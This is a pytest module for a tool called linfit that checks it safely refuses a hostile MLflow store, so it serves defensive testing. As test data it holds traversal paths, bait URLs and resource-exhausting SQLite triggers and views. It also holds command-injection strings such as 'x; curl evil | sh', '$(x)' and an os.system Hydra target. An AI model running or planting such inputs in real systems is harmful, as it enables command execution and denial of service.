"""A store that somebody handed over: where linfit writes, what it executes, deletes and prints.

Stores, and what sees that nothing of a BAIT is touched, are those of tests/test_hostile.py.
"""

from __future__ import annotations

import _thread
import json
import shutil
import signal
import sqlite3
from collections.abc import Callable, Iterator
from contextlib import closing, contextmanager
from pathlib import Path
from threading import Timer
from types import SimpleNamespace
from typing import Any

import pyarrow as pa
import pytest
from pyarrow import parquet
from sqlalchemy import text

from linfit.errors import LinfitError, RecordingError
from linfit.settings import MLflowTracking
from linfit.tracking.read.access import list_store_options, require_named_place
from linfit.tracking.read.reader import RunReader
from linfit.tracking.relocation import relocate_store
from linfit.tracking.schema import mlflow_names
from linfit.tracking.schema.descriptions import is_plain_command
from linfit.tracking.store.sqlite_files import open_checked
from linfit.tracking.store.store import Store as NamedStore
from linfit.tracking.store.store import resolve_store
from linfit.tracking.tables.manifest import SWEEP_INFO_KEY, read_sweep_info
from linfit.tracking.write.database import find_engine
from linfit.tracking.write.open import open_recorder_here
from tests import test_hostile
from tests.test_hostile import BAIT, Linfit, Store, forged, good, watched

hooked, recorded, store = test_hostile._hooked, test_hostile.recorded, test_hostile.store


@pytest.fixture
def settled(store: Store) -> Store:
    """A store that lies where its addresses say, so that it can be written to."""
    relocate_store(resolve_store(), write=True)
    return store


RUN = ("run", "steps=3", "pictures=false")
#: Places that a store may name, as `{out}` a folder beside the working one.
PLACES = (
    *(
        f"http://{BAIT}.invalid/x",
        f"https://u:p@{BAIT}.invalid",
        f"ftp://{BAIT}.invalid/x",
        f"sftp://{BAIT}.invalid/x",
    ),
    *(
        f"s3://{BAIT}/x",
        f"gs://{BAIT}",
        f"dbfs:/{BAIT}",
        f"mlflow-artifacts:/{BAIT}",
        f"mlflow-artifacts://{BAIT}.invalid/x",
    ),
    *(
        f"hdfs://{BAIT}/x",
        f"wasbs://c@{BAIT}.blob.core.windows.net/x",
        f"runs:/{BAIT}/x",
        f"file://{BAIT}/share",
        f"{BAIT}:x",
    ),
    *(
        "{out}",
        "file:{out}",
        "file://{out}",
        "FILE:{out}",
        "file://localhost{out}",
        f"../{BAIT}",
        f"outputs/artifacts/../../../{BAIT}",
    ),
    *(
        f"outputs/artifacts/%2e%2e/../../{BAIT}",
        "outputs/artifacts/link/x",
        "outputs/artifacts/link",
        f" {BAIT}",
        f"ht\ntp://{BAIT}.invalid",
    ),
    *("", ".", "conf", "outputs", "outputs/sweeps/x"),
)


def everything(folder: Path) -> dict[Path, bytes]:
    return {
        file: file.read_bytes()
        for file in sorted(folder.rglob("*"))
        if file.is_file() and not file.is_symlink()
    }


@pytest.mark.slow
def test_nothing_is_written_where_a_store_says(settled: Store, linfit: Linfit) -> None:
    out = settled.folder.parent / BAIT
    (settled.folder / "outputs" / "artifacts" / "link").symlink_to(out)
    for place in PLACES:
        assert_refused(place.format(out=out), settled, linfit, RUN)
    assert_refused(PLACES[0], settled, linfit, ("reproduce", settled.single))


def assert_refused(place: str, settled: Store, linfit: Linfit, words: tuple[str, ...]) -> None:
    settled.rows("UPDATE experiments SET artifact_location = ? WHERE name = 'adhoc'", place)
    before = everything(settled.folder.parent)
    with watched() as seen:
        said = linfit(*words)
    assert (said.code, said.out, said.err.count("\n")) == (2, "", 1), (place, said.err)
    assert "where nothing is written unless it is named" in said.err, place
    assert [event for event in seen if not event.startswith(("open", "os.scandir"))] == [], place
    assert everything(settled.folder.parent) == before, place


def test_a_place_that_is_named_is_written_to(
    settled: Store, linfit: Linfit, tmp_path: Path
) -> None:
    place = tmp_path / "a b, 50%" / "files"
    settled.rows(
        "UPDATE experiments SET artifact_location = ? WHERE name = 'adhoc'", place.as_uri()
    )
    place.mkdir(parents=True)
    said = linfit(*RUN)
    assert said.code == 2
    assert (
        f"tracking.artifacts='\"'\"'{place}'\"'\"'" in said.err
        and f"--artifacts '{place}'" in said.err
    )
    for words in (
        (*RUN, f"tracking.artifacts='{place}'"),
        ("reproduce", settled.single, "--artifacts", str(place)),
    ):
        assert linfit(*words).code == 0
    assert len(list(place.glob(f"*/artifacts/{mlflow_names.CONFIG_FILE}"))) == 2


@pytest.mark.parametrize(
    ("uri", "artifacts", "location", "named"),
    [
        ("postgresql://host/db", None, "s3://bucket/x", False),
        ("postgresql://host/db", "s3://bucket/x", "s3://bucket/x/3", True),
        ("postgresql://host/db", "s3://bucket/x", "s3://bucket/xy/3", False),
        ("postgresql://host/db", "s3://bucket/x", "s3://bucket/x/../y", False),
        ("postgresql://host/db", "s3://bucket/x", "s3://bucket/x/%2e%2e/y", False),
        ("postgresql://host/db", "s3://bucket/x", "s3://other/x/3", False),
        ("postgresql://host/db", "s3://bucket/x", "s3://bucket/x/3?endpoint=y", False),
        ("postgresql://host/db", "http://host/x", "http://user@host/x/3", False),
        ("postgresql://host/db", None, "mlruns/3", True),
        ("postgresql://host/db", None, "/elsewhere/mlruns/3", False),
        ("http://host", None, "s3://bucket/x", True),
        ("databricks", None, "dbfs:/databricks/x", True),
    ],
)
def test_a_database_names_no_place_and_a_server_does(
    uri: str, artifacts: str | None, location: str, named: bool, bare: Path
) -> None:
    if named:
        require_named_place(NamedStore(uri, artifacts), location, "the run")
    else:
        with pytest.raises(RecordingError, match="nothing is written unless it is named"):
            require_named_place(NamedStore(uri, artifacts), location, "the run")


@pytest.mark.parametrize("table", ["runs", "logged_models", "files"])
def test_a_run_that_is_there_has_no_place_of_its_own(
    table: str, settled: Store, linfit: Linfit
) -> None:
    """Its row, its model's, or a link in the place of one of its files."""
    out = settled.folder.parent / BAIT
    recorder = open_recorder_here(MLflowTracking(), "adhoc")
    file = settled.artifact(mlflow_names.CONFIG_FILE)
    if table == "files":
        (file.parent / "environment.json").unlink()
        (file.parent / "environment.json").symlink_to(out / "trace")
        (settled.folder / "environment.json").write_text("{}")
        file = settled.folder / "environment.json"
    elif table == "runs":
        settled.rows("UPDATE runs SET artifact_uri = ?", str(out))
    else:
        settled.rows("UPDATE logged_models SET artifact_location = ?", str(out))
    if table != "logged_models":
        with pytest.raises(LinfitError, match=r"unless it is named|is a link"):
            recorder.log_artifacts(settled.single, [file])
        return
    client: Any = recorder
    with pytest.raises(RecordingError, match="unless it is named"):
        client.client.log_model(settled.single, SimpleNamespace(name="model"))


@pytest.mark.parametrize(
    "named",
    [
        {"uri": f"http://{BAIT}.invalid"},
        {"uri": f"postgresql://{BAIT}.invalid/x"},
        {"uri": f"sqlite:////tmp/{BAIT}/x.db"},
        {"artifacts": f"s3://{BAIT}/x"},
        {"artifacts": f"/tmp/{BAIT}"},
        {"artifacts": f"../{BAIT}"},
    ],
)
def test_a_manifest_names_no_store(named: dict[str, str], settled: Store, linfit: Linfit) -> None:
    settled.give(forged(good(), tracking={"name": "mlflow", **named}))
    [sweep] = (settled.folder / "outputs" / "sweeps").iterdir()
    shutil.copy(settled.artifact(mlflow_names.MANIFEST), sweep / mlflow_names.MANIFEST)
    with watched() as seen:
        said = linfit("resume", str(sweep))
    assert (said.code, said.out, seen) == (2, "", [])
    [(key, value)] = named.items()
    assert f"add --{key} {value}" in said.err
    assert list_store_options(MLflowTracking.model_validate(named)) == [f"--{key}", value]


def test_a_store_names_no_folder_to_go_on_in(settled: Store, linfit: Linfit) -> None:
    out = settled.folder.parent / BAIT
    [sweep] = (settled.folder / "outputs" / "sweeps").iterdir()
    shutil.copytree(sweep, out / "sweep")
    settled.tag(settled.sweep, mlflow_names.FOLDER, str(out / "sweep"))
    said = linfit("resume", settled.sweep)
    shutil.rmtree(out / "sweep")
    assert said.code == 2
    assert f"which is elsewhere: if it is yours, linfit resume {out}/sweep" in said.err


@pytest.mark.parametrize("name", ["results.parquet", ".lock", "environment.json", "pictures"])
def test_links_in_a_sweeps_folder_are_not_written_through(
    name: str, settled: Store, linfit: Linfit
) -> None:
    [sweep] = (settled.folder / "outputs" / "sweeps").iterdir()
    (sweep / name).unlink(missing_ok=True)
    (sweep / name).symlink_to(settled.folder.parent / BAIT / "trace")
    said = linfit("resume", str(sweep))
    assert said.code == 2 and "is a link to somewhere else" in said.err


COUNTING = "WITH RECURSIVE c(x) AS (SELECT 1 UNION ALL SELECT x + 1 FROM c)"
SPOILT = {
    "a view": "ALTER TABLE runs RENAME TO other; "
    f"CREATE VIEW runs AS {COUNTING} SELECT other.* FROM other, c",
    "a view of another case": "ALTER TABLE tags RENAME TO other; "
    f"CREATE VIEW TAGS AS {COUNTING} SELECT other.* FROM other, c",
    "a trigger": "CREATE TRIGGER t AFTER INSERT ON runs "
    "BEGIN UPDATE runs SET artifact_uri = 'http://bait'; END",
    "a trigger on tags": "CREATE TRIGGER t BEFORE INSERT ON TAGS "
    "BEGIN SELECT hex(zeroblob(1000000000)); END",
    "a column": "ALTER TABLE experiments ADD COLUMN z AS (length(hex(zeroblob(500000000))))",
    "a column by another name": "ALTER TABLE experiments "
    "ADD COLUMN z GENERATED ALWAYS AS (abs (1) + 1) VIRTUAL",
    "a check": "ALTER TABLE runs ADD COLUMN y CHECK (length(hex(zeroblob(100))) > 0)",
    "an index": "CREATE INDEX i ON runs (name || name)",
    "a part of an index": "CREATE INDEX i ON runs (name) WHERE length(name) > 1",
    "a module": "CREATE VIRTUAL TABLE v USING fts5(x)",
}


@pytest.mark.parametrize("case", SPOILT)
def test_what_a_store_would_execute_is_refused(case: str, store: Store, linfit: Linfit) -> None:
    with closing(sqlite3.connect(store.file)) as database:
        database.executescript(
            f"PRAGMA foreign_keys = OFF; PRAGMA legacy_alter_table = ON; {SPOILT[case]}"
        )
    for words in (RUN, ("show", "last"), ("relocate", "--yes")):
        said = linfit(*words)
        assert (said.code, said.err.count("\n")) == (2, 1)
        assert "is not as MLflow makes one" in said.err


def test_files_beside_a_store_lead_nowhere_else(store: Store, linfit: Linfit) -> None:
    marker = store.folder.parent / BAIT / "data.csv"
    log, journal = (store.file.with_name(f"mlflow.db-{ending}") for ending in ("wal", "journal"))
    log.symlink_to(marker)
    assert "mlflow.db-wal beside it is a link" in linfit("show").err
    log.unlink()
    name = str(marker).encode()
    journal.write_bytes(bytes(512) + name + bytes(8) + bytes.fromhex("d9d505f920a163d7"))
    assert "names another file, which SQLite would delete" in linfit("show").err
    journal.unlink()
    assert linfit("show").code == 0


def test_a_long_query_hears_ctrl_c(settled: Store) -> None:
    endless = f"{COUNTING} SELECT count(*) FROM c"
    with (
        interrupted(),
        open_checked(settled.file, to_write=False, timeout=1) as database,
    ):
        database.execute(endless)
    recorder: Any = open_recorder_here(MLflowTracking(), "adhoc")
    client = recorder.client

    def ask() -> None:
        with find_engine(client).connect() as connection:
            connection.execute(text(endless))

    with interrupted():
        client._send(ask)


@contextmanager
def interrupted() -> Iterator[None]:
    """Interrupt the block, which has to end by it.

    A handler of linfit's own, which an earlier test of this process may have left, heeds only the
    first interrupt.
    """
    before = signal.signal(signal.SIGINT, signal.default_int_handler)
    Timer(0.5, _thread.interrupt_main).start()
    try:
        with pytest.raises(KeyboardInterrupt):
            yield
    finally:
        signal.signal(signal.SIGINT, before)


@pytest.mark.parametrize("run_id", ["../../x", "a;touch b", "$(x)", "a b", "a'b", "ü"])
def test_a_run_whose_id_is_no_word_is_refused(run_id: str, store: Store) -> None:
    with closing(sqlite3.connect(store.file)) as database, database:
        database.execute("PRAGMA foreign_keys = OFF")
        for table in ("runs", "tags", "params", "metrics", "latest_metrics", "inputs"):
            column = "destination_id" if table == "inputs" else "run_uuid"
            database.execute(
                f"UPDATE {table} SET {column} = ? WHERE {column} = ?", (run_id, store.sweep)
            )
    with pytest.raises(LinfitError, match="whose id is none of MLflow's"):
        RunReader(resolve_store()).find_run("last")


@pytest.mark.parametrize(
    ("typed", "plain"),
    [
        ("linfit run optimizer=adam,sgd -m", True),
        ("linfit run 'name=a b'", True),
        ("linfit run x; curl evil | sh", False),
        ("linfit run $(x)", False),
        ("linfit run `x`", False),
        ("linfit run a\nrm b", False),
        ("linfit run 'a", False),
        ("linfit run  a", False),
        ("linfit resume x", False),
        ("rm -r x", False),
        ("linfit run +hydra.callbacks.x=y", False),
        ("linfit run 'a={_target_: os.system}'", False),
        (7, False),
        (None, False),
    ],
)
def test_a_command_that_a_manifest_has_is_one(typed: object, plain: bool, store: Store) -> None:
    assert is_plain_command(typed) is plain
    file = store.artifact(mlflow_names.MANIFEST)
    table = parquet.read_table(file)
    about = {**json.loads(table.schema.metadata[SWEEP_INFO_KEY]), "typed": typed}
    parquet.write_table(table.replace_schema_metadata({SWEEP_INFO_KEY: json.dumps(about)}), file)
    assert read_sweep_info(file)["typed"] == (typed if plain else "")


def spoil_curves(table: pa.Table) -> pa.Table:
    return table.slice(0, 1)


def spoil_losses(table: pa.Table) -> pa.Table:
    return table.set_column(table.column_names.index("loss"), "loss", pa.array([0.0] * len(table)))


def spoil_rows(table: pa.Table) -> pa.Table:
    return table.set_column(0, "row", pa.array([10**9] * len(table)))


def spoil_configs(table: pa.Table) -> pa.Table:
    changed = pa.array(
        [
            text.replace("0.01", "0.02").replace("steps", "stops")
            for text in table["config"].to_pylist()
        ]
    )
    return table.set_column(table.column_names.index("config"), "config", changed)


SPOIL: dict[str, tuple[str, Callable[[pa.Table], pa.Table]]] = {
    "curves": (mlflow_names.CURVES, spoil_curves),
    "losses": (mlflow_names.RESULTS, spoil_losses),
    "rows": (mlflow_names.RESULTS, spoil_rows),
    "configs": (mlflow_names.MANIFEST, spoil_configs),
}


@pytest.mark.parametrize("case", SPOIL)
def test_a_report_reads_what_verify_reads(case: str, store: Store, linfit: Linfit) -> None:
    name, spoil = SPOIL[case]
    file = store.artifact(name)
    parquet.write_table(spoil(parquet.read_table(file)), file)
    for command in ("report", "verify"):
        said = linfit(command, store.sweep)
        assert (said.code, said.err.count("\n")) == (2, 1)
        assert "was changed after it was written" in said.err
    assert not (store.folder / mlflow_names.REPORT).exists()
    store.rows("DELETE FROM tags WHERE key = ?", mlflow_names.FILES)
    if case in ("rows", "configs"):
        said = linfit("report", store.sweep)
        assert (said.code, said.err.count("\n")) == (2, 1), said.err
